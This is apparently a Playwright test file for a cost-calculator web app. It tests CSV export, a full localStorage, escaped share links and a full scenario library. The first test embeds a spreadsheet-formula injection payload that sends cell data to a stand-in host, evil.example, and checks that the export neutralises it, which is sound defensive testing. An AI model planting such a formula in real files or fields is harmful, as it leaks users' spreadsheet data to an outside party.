// What a hostile or unlucky user brings: a link whose name is a spreadsheet formula, a storage that is
// full, a link mangled by the address bar, a link that a full library cannot take.
import { expect, test } from "./fixtures/calculator-page";

const link = (scenario: object) => `#s=${Buffer.from(JSON.stringify(scenario)).toString("base64url")}`;

test("a name that is a spreadsheet formula is written as text in the CSV", async ({ page, calc }) => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  await page.goto(`/${link({ version: 1, name: formula })}`);
  await expect(calc.byTestId("scenario-name")).toHaveValue(formula);
  const csv = await calc.download("export-csv");
  expect(csv.text).toContain(`Scenario,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
  // No cell anywhere starts like a formula.
  for (const line of csv.text.split("\r\n")) {
    for (const cell of line.split(",")) {
      expect(cell.replace(/^\uFEFF?"?/, "")).not.toMatch(/^[=+@\t]/);
    }
  }
});

test("saved scenarios in a full storage are listed and left as they are", async ({ page, calc }) => {
  await calc.goto();
  await calc.rename("Client A");
  await calc.byTestId("scenario-duplicate").click();
  await calc.rename("Client B");
  await expect.poll(() => calc.storedLibrary()).toContain("Client B");
  const stored = await calc.storedLibrary();
  // Fill the storage to the last byte, as another page of the same site might.
  await page.evaluate(() => {
    let n = 0;
    for (const size of [1_000_000, 100_000, 10_000, 1_000, 100, 10, 1]) {
      const chunk = "x".repeat(size);
      for (;;) {
        try {
          localStorage.setItem(`filler-${n}`, chunk);
          n++;
        } catch {
          break;
        }
      }
    }
  });
  await calc.goto();
  expect(await calc.scenarioNames()).toEqual(["Client A", "Client B"]);
  await expect(calc.notices()).toContainText("storage is full");
  await calc.set("workload", "tickets_per_month", "600");
  await expect(calc.cost("diy")).toHaveText("$14,700");
  expect(await calc.storedLibrary()).toBe(stored);
});

test("a link with spaces the address bar escaped opens", async ({ page, calc }) => {
  const fragment = link({ version: 1, name: "Spaced out" });
  const spaced = `${fragment.slice(0, 30)}%20${fragment.slice(30, 60)}%20${fragment.slice(60)}`;
  await page.goto(`/${spaced}`);
  await expect(calc.byTestId("scenario-name")).toHaveValue("Spaced out");
  await expect(calc.notices()).toContainText("Opened the shared scenario");
});

test("a link that a full library cannot take stays in the address", async ({ page, calc }) => {
  await calc.goto();
  // A first visit stores nothing until its first change.
  await calc.rename("Template");
  await expect.poll(() => calc.storedLibrary()).toContain("Template");
  const stored = JSON.parse((await calc.storedLibrary()) ?? "{}");
  const one = stored.scenarios[0];
  stored.scenarios = Array.from({ length: 200 }, (_, i) => ({
    id: `s${i}`,
    rev: 1,
    scenario: { ...one.scenario, name: `Scenario ${i + 1}` },
  }));
  stored.active = "s0";
  await calc.storeLibrary(JSON.stringify(stored));
  await calc.goto();
  expect(await calc.scenarioNames()).toHaveLength(200);
  const fragment = link({ version: 1, name: "From a colleague" });
  await page.goto(`/${fragment}`);
  await expect(calc.cost("diy")).not.toBeEmpty();
  await expect(calc.notices()).toContainText("Delete one first");
  expect(new URL(page.url()).hash).toBe(fragment);
  expect(await calc.scenarioNames()).toHaveLength(200);
});
